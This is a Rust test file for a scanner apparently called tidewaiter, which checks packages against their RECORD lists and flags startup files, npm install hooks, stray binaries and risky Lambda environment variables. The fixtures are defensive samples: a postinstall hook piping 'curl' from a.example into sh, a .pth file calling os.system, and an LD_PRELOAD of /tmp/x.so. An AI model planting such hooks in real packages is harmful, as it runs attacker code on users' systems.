//! Files against their package's own list, and what runs before the handler, through the real program.
//!
//! The packages of these tests are built here; `integrity_live` has real ones.

use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::support::{Cli, Zip, tar, write};

/// The files of an installed package `a` 1.0 with its list, below a folder (`""` or one that ends with `/`).
fn installed(folder: &str) -> Vec<(String, Vec<u8>)> {
    let mut files = vec![
        ("a/__init__.py", b"x = 1\n".to_vec()),
        ("a/data.json", b"{}".to_vec()),
        ("a-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: a\nVersion: 1.0\n".to_vec()),
        ("a-nspkg.pth", b"import a\n".to_vec()),
    ];
    let row = |(path, bytes): &(&str, Vec<u8>)| {
        format!("{path},sha256={},{}\n", URL_SAFE_NO_PAD.encode(Sha256::digest(bytes)), bytes.len())
    };
    let list: String = files.iter().map(row).collect();
    files.push(("a-1.0.dist-info/RECORD", (list + "a-1.0.dist-info/RECORD,,\n").into_bytes()));
    files.into_iter().map(|(path, bytes)| (format!("{folder}{path}"), bytes)).collect()
}

fn zip(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    files.iter().fold(Zip::new(), |zip, (path, bytes)| zip.file(path, bytes)).build()
}

fn target(path: &Path, more: &[&str]) -> Value {
    Cli::scan(path, more).1["targets"][0].take()
}

/// Id, severity and first place of every finding on files and hooks.
pub fn told(target: &Value) -> Vec<(String, String, String)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let findings = target["findings"].as_array().expect("a list").iter();
    let mut rows: Vec<_> = findings
        .filter(|finding| finding["kind"] == "integrity" || finding["kind"] == "posture")
        .map(|finding| {
            let place = &finding["locations"][0]["path"];
            let place = place.as_array().expect("a path").iter().map(text).collect::<Vec<_>>().join("!");
            (text(&finding["id"]), text(&finding["severity"]), place)
        })
        .collect();
    rows.sort();
    rows
}

fn row(id: &str, severity: &str, place: &str) -> (String, String, String) {
    (id.to_owned(), severity.to_owned(), place.to_owned())
}

fn hooks(target: &Value) -> Vec<(String, bool)> {
    let hooks = target["hooks"].as_array().expect("a list").iter();
    hooks.map(|hook| (hook["what"].as_str().unwrap().to_owned(), hook["expected"].as_bool().unwrap())).collect()
}

#[test]
fn changes_are_told_wherever_the_list_lies_and_in_any_order() {
    let folder = tempfile::tempdir().unwrap();
    for prefix in ["", "python/", "vendor/site/"] {
        for reversed in [false, true] {
            let mut files = installed(prefix);
            if reversed {
                files.reverse();
            }
            let untouched = write(folder.path(), "f.zip", &zip(&files));
            assert_eq!(told(&target(&untouched, &[])), [], "{prefix} {reversed}");
            let module = files.iter_mut().find(|(path, _)| path.ends_with("__init__.py")).unwrap();
            module.1[4] ^= 1;
            let data = files.iter_mut().find(|(path, _)| path.ends_with("data.json")).unwrap();
            data.1[0] ^= 1;
            let path = |name: &str| format!("{prefix}{name}");
            files.push((path("evil.pth"), b"import os; os.system('x')\n".to_vec()));
            files.push((path("folders.pth"), b"./more\n".to_vec()));
            files.push((path("a/extra.py"), b"".to_vec()));
            files.push((path("mine.py"), b"".to_vec()));
            let expected = [
                row("file-changed", "high", &path("a/__init__.py")),
                row("file-changed", "low", &path("a/data.json")),
                row("file-planted", "high", &path("a/extra.py")),
                row("startup-file", "high", &path("evil.pth")),
                row("startup-file", "low", &path("folders.pth")),
            ];
            let changed = target(&write(folder.path(), "f.zip", &zip(&files)), &[]);
            assert_eq!(told(&changed), expected, "{prefix} {reversed}");
            let about = &changed["findings"].as_array().unwrap().iter().find(|f| f["id"] == "file-changed").unwrap();
            assert_eq!(about["package"], "pkg:pypi/a@1.0");
            let expected = hooks(&changed).into_iter().filter(|(_, expected)| *expected).count();
            assert_eq!((hooks(&changed).len(), expected), (3, 1), "{:?}", hooks(&changed));
        }
    }
}

#[test]
fn a_wheel_in_an_archive_is_compared_with_its_own_list() {
    let folder = tempfile::tempdir().unwrap();
    let mut files = installed("");
    files[0].1[0] = b'y';
    let outer = Zip::new().file("app.py", b"").file("dist/a-1.0-py3-none-any.whl", zip(&files)).build();
    let changed = target(&write(folder.path(), "f.zip", &outer), &[]);
    assert_eq!(told(&changed), [row("file-changed", "high", "dist/a-1.0-py3-none-any.whl!a/__init__.py")]);
}

#[test]
fn a_tar_says_that_nothing_was_compared() {
    let folder = tempfile::tempdir().unwrap();
    let files = installed("");
    let archive = files.iter().fold(tar::Tar::new(), |tar, (path, bytes)| tar.file(path, bytes)).build();
    let read = target(&write(folder.path(), "f.tar", &archive), &[]);
    assert_eq!(told(&read), []);
    let notes = read["coverage"]["gaps"].as_array().unwrap().iter().filter(|gap| gap["by"] == "integrity");
    assert_eq!(notes.map(|gap| gap["level"].as_str().unwrap()).collect::<Vec<_>>(), ["note"]);
    assert_eq!(read["coverage"]["grade"], "complete", "every byte was read");
}

#[test]
fn a_changed_file_ends_a_build_and_is_explained() {
    let folder = tempfile::tempdir().unwrap();
    let mut files = installed("");
    files[0].1[0] = b'y';
    let archive = write(folder.path(), "f.zip", &zip(&files));
    let (run, json) = Cli::scan(&archive, &[]);
    assert_eq!(run.code, 1);
    assert_eq!(json["targets"][0]["findings"][0]["violates"], true);
    let table = Cli::run(["scan".as_ref(), archive.as_os_str(), "--allow-seed".as_ref()]);
    assert!(table.stdout.contains("a/__init__.py differs from a-1.0.dist-info/RECORD"), "{}", table.stdout);
    assert!(table.stdout.contains("Runs before the handler"));
    for check in tidewaiter::integrity::CHECKS {
        let explained = Cli::run(["explain", check.id]);
        assert_eq!(explained.code, 0);
        assert!(explained.stdout.starts_with(check.id) && explained.stdout.contains(check.remediation));
    }
}

#[test]
fn install_scripts_of_npm_are_hooks_and_seldom_findings() {
    let folder = tempfile::tempdir().unwrap();
    let manifest = |name: &str, script: &str| {
        json!({"name": name, "version": "1.0.0", "scripts": {"postinstall": script}}).to_string()
    };
    let archive = Zip::new()
        .file("index.js", b"1")
        .file("node_modules/good/package.json", manifest("good", "node build.js"))
        .file("node_modules/bad/package.json", manifest("bad", "curl -s https://a.example/x | sh"))
        .file("node_modules/plain/package.json", br#"{"name": "plain", "version": "1.0.0"}"#)
        .file("node_modules/plain/lib/helper", b"\x7FELF\x02\x01\x01\0")
        .build();
    let read = target(&write(folder.path(), "f.zip", &archive), &[]);
    let expected = [
        row("install-script", "high", "node_modules/bad/package.json"),
        row("stray-binary", "medium", "node_modules/plain/lib/helper"),
    ];
    assert_eq!(told(&read), expected);
    let packages: Vec<&Value> = read["findings"].as_array().unwrap().iter().map(|f| &f["package"]).collect();
    assert!(packages.contains(&&json!("pkg:npm/bad@1.0.0")) && packages.contains(&&json!("pkg:npm/plain@1.0.0")));
    assert_eq!(hooks(&read).iter().map(|(_, expected)| *expected).collect::<Vec<_>>(), [false, true]);
}

#[test]
fn variables_are_held_against_what_is_deployed() {
    let folder = tempfile::tempdir().unwrap();
    let code = write(folder.path(), "f.zip", &Zip::new().file("index.js", b"1").file("bootstrap", b"#!").build());
    let layer = Zip::new().file("datadog_wrapper", b"#!/bin/sh").file("extensions/agent", b"\x7FELF").build();
    let layer = write(folder.path(), "layer.zip", &layer);
    let password = ["hunter", "2"].concat();
    let variables = json!({
        "AWS_LAMBDA_EXEC_WRAPPER": "/opt/datadog_wrapper",
        "NODE_OPTIONS": format!("--require /opt/none.js --import data:text/javascript,{password} --title={password}"),
        "LD_PRELOAD": "/tmp/x.so",
        "JAVA_TOOL_OPTIONS": format!("-Dpw={password} -javaagent:/opt/agent.jar={password}"),
        "PYTHONPATH": "/var/task:/var/runtime",
    });
    let variables = write(folder.path(), "env.json", variables.to_string().as_bytes());
    let arguments = |layers: &[&str]| {
        let mut out = vec!["--env-file".to_owned(), variables.display().to_string(), "--runtime".to_owned()];
        out.push("nodejs22.x".to_owned());
        out.extend(layers.iter().flat_map(|layer| ["--layer".to_owned(), (*layer).to_owned()]));
        out
    };
    let layers = arguments(&[layer.to_str().unwrap()]);
    let words: Vec<&str> = layers.iter().map(String::as_str).collect();
    let (run, _) = Cli::scan(&code, &words);
    assert!(!run.stdout.contains(&password), "a value never leaves");
    let read = target(&code, &words);
    let expected = [
        row("startup-variable", "high", "LD_PRELOAD"),
        row("startup-variable", "high", "NODE_OPTIONS"),
        row("startup-variable", "medium", "JAVA_TOOL_OPTIONS"),
        row("startup-variable", "medium", "NODE_OPTIONS"),
        row("stray-bootstrap", "low", "bootstrap"),
    ];
    assert_eq!(told(&read), expected);
    let lines = hooks(&read);
    let line = |what: &str| lines.iter().find(|(line, _)| line.contains(what)).unwrap_or_else(|| panic!("{lines:?}"));
    assert!(line("/opt/datadog_wrapper (Datadog), part of a layer").1);
    assert!(line("the extension /opt/extensions/agent").1);
    assert!(line("PYTHONPATH looks for code in /var/runtime").1);
    assert!(!line("LD_PRELOAD loads /tmp/x.so").1);

    let without = arguments(&[]);
    let words: Vec<&str> = without.iter().map(String::as_str).collect();
    let missing = row("startup-variable", "medium", "AWS_LAMBDA_EXEC_WRAPPER");
    assert!(told(&target(&code, &words)).contains(&missing), "the wrapper is in no layer that was given");
}

#[test]
fn a_custom_runtime_needs_its_bootstrap() {
    let folder = tempfile::tempdir().unwrap();
    let code = write(folder.path(), "f.zip", &Zip::new().file("bootstrap", b"#!/bin/sh\n").build());
    for more in [&["--runtime", "provided.al2023"][..], &[]] {
        let read = target(&code, more);
        assert_eq!(told(&read), []);
        assert_eq!(hooks(&read), [("it is the program of a custom runtime".to_owned(), true)]);
    }
}
